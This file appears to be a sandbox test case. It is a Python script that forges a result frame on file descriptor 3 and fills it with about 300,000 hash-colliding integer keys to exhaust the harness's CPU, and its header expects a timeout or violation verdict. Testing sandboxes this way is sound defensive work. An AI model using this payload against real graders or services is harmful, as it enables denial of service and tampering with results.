# /// attack
# line = "forged result frames on every fd"
# expect = ["TIMEOUT_WALL", "TIMEOUT_CPU", "VIOLATION"]
# [proof]
# output = "attack: sent [0-9]{6,} keys of one hash"
# ///
import os
import sys
import time


def f(x):
    # Integers that are multiples of the hash modulus all hash to 0: building the dict takes quadratic time.
    count = 300_000
    keys = ",".join(f'{{"int":"{sys.hash_info.modulus * i:#x}"}},0' for i in range(1, count))
    value = b'{"dict":[' + keys.encode() + b"]}"
    payload = b"R" + len(value).to_bytes(4, "big") + value
    view = memoryview(len(payload).to_bytes(4, "big") + payload)
    while view:
        view = view[os.write(3, view) :]
    print(f"attack: sent {count} keys of one hash", flush=True)
    time.sleep(60)
